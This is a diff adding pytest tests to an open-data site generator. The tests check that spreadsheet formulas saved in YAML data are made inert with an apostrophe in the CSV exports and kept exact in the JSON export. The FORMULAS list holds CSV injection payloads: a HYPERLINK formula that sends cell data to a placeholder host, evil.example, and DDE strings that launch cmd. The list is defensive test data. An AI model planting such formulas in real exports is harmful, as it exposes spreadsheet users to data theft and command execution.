@@ -3,10 +3,12 @@
 import csv
 import io
 import json
+import shutil
 from pathlib import Path
 from urllib.parse import urljoin
 
 import pytest
+import yaml
 from bs4 import BeautifulSoup
 
 from conftest import LANGUAGES, PAGE_PAIRS, ROOT, build
@@ -151,6 +153,43 @@ def test_a_licence_without_a_web_address_is_refused(tmp_path):
         "\nlicence:\n", "\nlicence:\n  name:\n    fr: L\n    en: L\n  url: http://licence.example/\n"), encoding="utf-8")
     with pytest.raises(DataError, match=r"publication\.yml:\d+: champ « licence\.url » : forme inattendue"):
         load_data(data, LANGUAGES)
+
+
+# Formulas written into data stay text in the CSV files (OWASP CSV injection)
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Cliquez")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_a_formula_written_in_the_data_is_plain_text_in_the_csv_and_exact_in_the_json(tmp_path):
+    """What an editor (or the web editor) saves into data/: action texts, a sector's name, a city."""
+    data = Path(shutil.copytree(ROOT / "data", tmp_path / "data"))
+    plan = yaml.safe_load((data / "plan.yml").read_text(encoding="utf-8"))
+    action = plan["sectors"][0]["actions"][0]
+    action["text"] = {"fr": FORMULAS[0], "en": FORMULAS[1]}
+    plan["sectors"][0]["name"] = {"fr": FORMULAS[2], "en": FORMULAS[3]}
+    plan["units"][0]["name"] = {"fr": FORMULAS[4], "en": FORMULAS[5]}
+    (data / "plan.yml").write_text(yaml.safe_dump(plan, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    itq = yaml.safe_load((data / "itq.yml").read_text(encoding="utf-8"))
+    itq["business_locations"][0]["city"] = FORMULAS[0]
+    (data / "itq.yml").write_text(yaml.safe_dump(itq, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    loaded = load_data(data, LANGUAGES)
+    files = opendata.files(loaded, LANGUAGES)
+    cells = [cell for kind in ("actions", "regions")
+             for row in csv.reader(io.StringIO(files[kind][1].decode("utf-8"), newline="")) for cell in row]
+    assert [cell for cell in cells if cell.startswith(opendata.FORMULA_START)] == []
+    for formula in FORMULAS:
+        assert any(cell.startswith("'" + formula) for cell in cells), formula
+    content = json.loads(files["json"][1])
+    assert content["plan"]["sectors"][0]["actions"][0]["text"] == {"fr": FORMULAS[0], "en": FORMULAS[1]}
+    assert content["itq"]["business_locations"][0]["city"] == FORMULAS[0]
+
+
+@pytest.mark.parametrize("cell, written", [("=1+1", "'=1+1"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"),
+                                           ("a=1", "a=1"), ("", ""), ("true", "true"), (3, 3)])
+def test_only_a_cell_that_starts_a_formula_gets_an_apostrophe(cell, written):
+    assert opendata.inert(cell) == written
 
 
 # Unit tests
